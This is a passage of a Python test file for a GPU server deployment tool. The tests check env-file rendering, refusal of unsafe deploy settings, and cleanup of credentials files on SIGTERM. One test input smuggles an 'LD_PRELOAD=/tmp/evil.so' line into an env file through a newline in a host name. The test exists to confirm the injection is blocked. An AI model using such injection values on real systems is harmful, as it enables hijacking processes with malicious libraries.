    sv.args[sv.args.index("--host") + 1] = value
    env = parse_env_file(render_env_file(sv, "seed\nInjected=1"))
    assert "Injected" not in env
    assert shlex.split(env["MINERU_VLLM_ARGS"]) == sv.args
    assert "--trust-remote-code" not in shlex.split(env["MINERU_VLLM_ARGS"])
    assert url_from_env(env) == f"http://127.0.0.1:{sv.port}"


def test_host_name_cannot_add_a_line_to_the_env_file():
    from mineru_fleet.core.units import render_env_file

    text = render_env_file(_seed_plan().servers[0], "gpu-1\nLD_PRELOAD=/tmp/evil.so")
    assert not [ln for ln in text.splitlines() if ln.startswith("LD_PRELOAD")]


# ------------------------------------------------------------------------------------------------
# refused before any host changes: the real deploy, through pyinfra, stops in preflight
# ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("data, needle", [
    ("mineru_service_user=root", "mineru_service_user='root'"),
    ("mineru_install_dir=/opt/my fleet", "mineru_install_dir='/opt/my fleet'"),
])
def test_deploy_refuses_before_any_operation(data, needle):
    r = subprocess.run([sys.executable, "-m", "pyinfra", "@local", "deploy.py", "-y", "--data", data],
                       capture_output=True, text=True, cwd=REPO, timeout=300)
    text = r.stdout + r.stderr
    assert r.returncode != 0 and needle in text and "Traceback" not in text, text[-3000:]
    assert "Beginning operation run" not in text and "Starting operation" not in text, "an operation ran"


def test_sigterm_during_a_fetch_removes_the_credentials_folder(tmp_path):
    """A deploy killed mid-download (SIGTERM) leaves no cookie file with the token behind."""
    import os
    import signal
    import socket
    import time

    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(8)  # accepts, never answers: the client hangs in its first request
    env = {**os.environ, "TMPDIR": str(tmp_path), "MODELSCOPE_API_TOKEN": SECRET,
           "MODELSCOPE_DOMAIN": f"127.0.0.1:{srv.getsockname()[1]}"}
    p = subprocess.Popen([sys.executable, str(FETCH), "resolve", "--model-id", "a/b", "--revision", "v1"], env=env,
                         stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        deadline = time.monotonic() + 60
        while not list(tmp_path.glob("ms-cred-*")) and time.monotonic() < deadline and p.poll() is None:
            time.sleep(0.1)
        assert list(tmp_path.glob("ms-cred-*")), "the credentials folder was never made"
        time.sleep(0.5)
        p.send_signal(signal.SIGTERM)
        out, err = p.communicate(timeout=30)
    finally:
        p.kill()
        srv.close()
    assert p.returncode == 128 + signal.SIGTERM
    assert not list(tmp_path.glob("ms-cred-*")), "cookie file left behind"
    assert SECRET not in out + err and "Traceback" not in err
